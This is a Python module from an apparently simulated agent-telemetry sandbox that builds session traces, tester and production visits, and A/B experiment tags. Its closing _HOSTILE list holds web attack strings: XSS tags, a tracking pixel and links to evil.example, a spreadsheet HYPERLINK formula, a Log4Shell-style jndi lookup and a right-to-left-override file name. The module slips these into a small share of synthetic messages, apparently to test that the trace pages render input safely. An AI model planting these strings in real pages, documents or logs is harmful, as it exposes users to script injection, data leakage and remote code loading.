"""What the demo's agents share: the stage that they play on and what is left of one session when it is over."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field
from random import Random
from typing import Literal

from etl.sandbox.agents.spans import TraceBuilder, TraceHead
from etl.sandbox.effects import Arm, Effects
from etl.sandbox.population import Population, User, release_at
from etl.sandbox.records import Observation

Ending = Literal["resolved", "unresolved", "escalated", "abandoned", "none"]

_STAGING_SHARE = 0.05
_TESTERS = tuple(User(f"qa-{number}", "en", "en-GB", "lumen-qa", "business", "web") for number in range(1, 26))


@dataclass(frozen=True)
class Stage:
    """The window, its people and its effects."""

    start: int
    end: int
    effects: Effects
    customers: Population
    integrators: Population
    engineers: Population


@dataclass
class Played:
    """One session: its traces in order, how it ended, and the answers that could be judged."""

    traces: list[TraceBuilder]
    language: str = "en"
    ending: Ending = "none"
    arm: Arm | None = None
    answers: list[Observation] = field(default_factory=list)

    def cut(self, length: int) -> None:
        """Keeps the first traces: the rest lies outside of the world."""
        if length < len(self.traces):
            del self.traces[length:]
            self.ending = "none"
            kept = {builder.trace.id for builder in self.traces}
            self.answers = [answer for answer in self.answers if answer.trace_id in kept]


@dataclass(frozen=True)
class Visit:
    """One user coming to one agent: where the traces of a session get their head from."""

    stage: Stage
    user: User
    environment: str
    session_id: str
    agent: str
    channel: str
    version: str
    is_from_old_client: bool = False

    @property
    def tag(self) -> str:
        """The tag that names the agent."""
        return f"agent_id:{self.agent}"

    def arm_at(self, at: int, rng: Random) -> Arm | None:
        """The arm that a trace at a time shows; staging takes no part in experiments."""
        if self.environment != "production":
            return None
        return self.stage.effects.arm(self.tag, at, user_id=self.user.id, session=self.session_id, rng=rng)

    def head(self, name: str, at: int, arm: Arm | None, extra: dict[str, object] | None = None) -> TraceHead:
        """What the spans of one trace inherit: release by time, tags and metadata by arm."""
        metadata: dict[str, object] = {
            "channel": self.channel,
            "tenant": self.user.tenant,
            "user": {"plan": self.user.plan, "locale": self.user.locale},
            **(extra or {}),
        }
        if arm is not None:
            metadata["ab"] = {"experiment": arm.experiment.name, "arm": arm.letter}
            metadata["experiment"] = arm.experiment.name
        return TraceHead(
            name=name,
            user_id=self.user.id,
            session_id=self.session_id,
            environment=self.environment,
            release=release_at(self.channel, self.stage.effects.share_of_window(at)),
            version=self.version,
            tags=(self.tag, f"lang:{self.user.language}", *(arm.tags if arm is not None else ())),
            metadata=metadata,
            is_from_old_client=self.is_from_old_client,
        )


def visitor(rng: Random, population: Population) -> tuple[User, str]:
    """Who comes, and to which environment: testers use staging."""
    user = population.draw(rng)
    tester = rng.choice(_TESTERS)
    return (tester, "staging") if rng.random() < _STAGING_SHARE else (user, "production")


def pause_ms(rng: Random, median_s: float, tail: float = 0.9) -> int:
    """How long a person takes until the next message."""
    return int(median_s * 1000 * rng.lognormvariate(0, tail))


def repeats(rng: Random, share: float, most: int) -> int:
    """How often something is done: at least once, again in ``share`` of the cases."""
    count = 1
    while count < most and rng.random() < share:
        count += 1
    return count


def hostile(rng: Random, text: str, share: float = 0.005) -> str:
    """A text as it is, or with something behind it that a careless page would run, load or follow."""
    return f"{text} {rng.choice(_HOSTILE)}" if rng.random() < share else text


_HOSTILE: Sequence[str] = (
    "<img src=x onerror=alert(1)>",
    "[x](http://evil.example)",
    "<script>alert('x')</script>",
    "![pixel](http://evil.example/p.png)",
    '=HYPERLINK("http://evil.example","open")',
    "<iframe srcdoc='<p>hi</p>'></iframe>",
    "{{7*7}} ${jndi:ldap://evil.example/a} \u202egnp.exe",
    "javascript:alert(document.domain)",
)
